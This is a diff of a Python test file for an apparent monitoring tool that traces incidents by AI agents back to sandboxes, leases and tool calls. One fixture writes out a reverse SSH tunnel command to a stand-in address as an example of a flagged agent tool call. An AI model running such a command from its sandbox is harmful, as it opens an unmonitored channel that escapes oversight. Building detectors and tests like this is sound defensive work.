@@ -83,19 +83,19 @@ def test_the_same_acts_are_those_of_an_oracle(rows: list[tuple[bool, list[str], 
 
 def test_a_call_before_is_no_cause() -> None:
     told = call_of(incident(0), [finding(0)])
-    assert told == (
-        "The last tool call before it is shell call0 at 2026-03-02 00:09:30, 30.0 s earlier.  "
-        "Coming before is no proof that it is the cause."
-    )
+    note = "(00:09:30, begun 30.0 s before).  Order in time, not a proven cause."
+    assert told == ("Last tool call before:", "shell call0", note, "", False)
+    assert call_of(finding(0), []) is None
     assert call_before({}) == ""
 
 
 def test_a_call_whose_text_tells_is_said_to() -> None:
-    told = call_of(incident(0), [finding(0), call_finding(0)])
-    assert told == (
-        "The text of tool call shell call0 at 2026-03-02 00:09:30 tells by itself: "
-        "Tool call opens a reverse SSH tunnel."
-    )
+    """And it is that of the finding, not of the last call before the incident, which may be another."""
+    told = call_of(incident(0), [finding(0), call_finding(0)], '{"command": "ls"}')
+    assert told is not None
+    said = "ssh -fN -R 16708:localhost:6006 root@198.51.100.7"
+    assert told[:3] == ("Tool call shell 00:09:30:", said, "")
+    assert told.whole == f'{{"command": "{said}"}}'
     assert call_before(call_finding(0)) == "It is tool call shell call0 itself."
 
 
@@ -108,7 +108,9 @@ def test_the_proof_is_a_sentence_with_the_address() -> None:
         "10.0.0.1 was held by sandbox s0 from 2026-03-02 00:00:00 to 00:59:00; the act lies inside.  "
         "No other holder fits."
     )
-    assert told.meaning == "one rollout of the agent in one sandbox"
+    owned = "10.0.0.1 was its address from 00:00:00 until its rollout ended; no other holder fits.  By a lease alone."
+    assert told.owned == owned
+    assert told.meaning == "the rollout, not which process in it"
 
 
 @pytest.mark.parametrize(
@@ -129,7 +131,7 @@ def test_no_lease_no_holder() -> None:
     told = proof(doubt, [], {"lease0": {"gen_ai.agent.id": "agent-0", "sandbox.id": "s0"}})
     assert told.verdict == "Ambiguous: 2 leases fit 10.0.0.1, and any one of them may have been it."
     assert told.held == ""
-    assert told.candidates == [("lease0", "agent-0, s0"), ("another", "")]
+    assert told.candidates == [("lease0", "agent-0, s0"), ("another", "unknown sandbox (lease another…)")]
     nobody = proof({**doubt, "attribution.status": "unattributed"}, [], {})
     assert nobody.verdict == "Unattributed: no lease fits 10.0.0.1 at 2026-03-02 00:10:00."
 
@@ -140,7 +142,7 @@ def test_no_lease_no_holder() -> None:
 def test_whether_the_sandbox_runs_is_what_its_lease_says() -> None:
     running = incident(0)
     del running["attribution.lease_end"]
-    assert standing(incident(0)).text == "its rollout ended 2026-03-02 00:59:00"
+    assert standing(incident(0)).text == "rollout ended 2026-03-02 00:59:00"
     assert standing(incident(0, **{"entity.type": "sandbox"})).text == "ended 2026-03-02 00:59:00"
     assert standing(running).text == "still running as far as leases tell"
     assert standing({**running, "entity.type": "host"}).state == "not known"
@@ -209,13 +211,13 @@ def test_an_ambiguous_incident_leads_to_the_one_that_is_known() -> None:
     doubt = unsure(9, sure)
     twins = same_acts([sure, doubt])[doubt["incident.id"]]
     (first, *_) = steps(doubt, [], twins, {sure["incident.id"]})
-    assert "agent agent-0" in first.text
+    assert "attributed to agent-0, s0:" in first.text
     assert first.page == f"incident-{0:032x}.html"
     assert "Find out which of the 2 candidates" in steps(doubt, [])[0].text
     both = unsure(9, sure, **{"attribution.candidates": ["lease0", "lease1"], "incident.last_seen": at(80)})
     twins = same_acts([sure, incident(1), both])[both["incident.id"]]
     told = steps(both, [], twins, source="out")[:2]
-    assert [step.text.split()[-1] for step in told] == ["agent-0:", "agent-1:"]
+    assert [step.text.split()[-1] for step in told] == ["s0:", "s1:"]
     assert [step.commands for step in told] == [
         (f"agenttrail incidents show --from out {number:032x}",) for number in (0, 1)
     ]
@@ -251,7 +253,7 @@ def test_a_terminal_counts_context_unless_all_is_asked_for() -> None:
         assert f"  same act as   {'0' * 12}, probably: SSH to an unlisted peer, address 10.0.0.1 (ambiguous)" in shown
         assert "s0 is one of the 2 candidates" in shown
         assert "10.0.0.1 was held by sandbox s0" in shown
-        assert "  its sandbox   its rollout ended 2026-03-02 00:59:00\n  connections   allowed\n" in shown
+        assert "  its sandbox   rollout ended 2026-03-02 00:59:00\n  connections   allowed\n" in shown
 
 
 # -- why it fired
